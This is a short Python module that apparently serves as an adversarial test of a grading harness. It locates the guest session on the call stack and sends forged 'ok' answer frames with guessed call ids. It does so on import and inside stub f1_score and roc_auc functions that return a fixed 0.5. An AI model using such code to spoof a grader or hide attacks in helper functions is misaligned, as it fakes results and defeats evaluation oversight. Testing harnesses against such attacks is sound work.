"""Sends answers with guessed ids before any question was asked."""

import secrets
import sys

from grader.wire.frame import Caps, Frame, send_frame


def session():
    frame = sys._getframe()
    while frame is not None:
        if type(frame.f_locals.get("self")).__name__ == "GuestSession":
            return frame.f_locals["self"]
        frame = frame.f_back
    raise RuntimeError("no session on the stack")


def attack():
    me = session()
    for guess in (me._call_id, me._call_id + 1, 0, 1, secrets.randbits(62)):
        send_frame(me._stream, Frame([guess, "ok", 1.0, [], [], None, []], []), Caps())


attack()


def f1_score(y_true, y_pred, average="binary"):
    attack()
    return 0.5


def roc_auc(y_true, y_score):
    attack()
    return 0.5
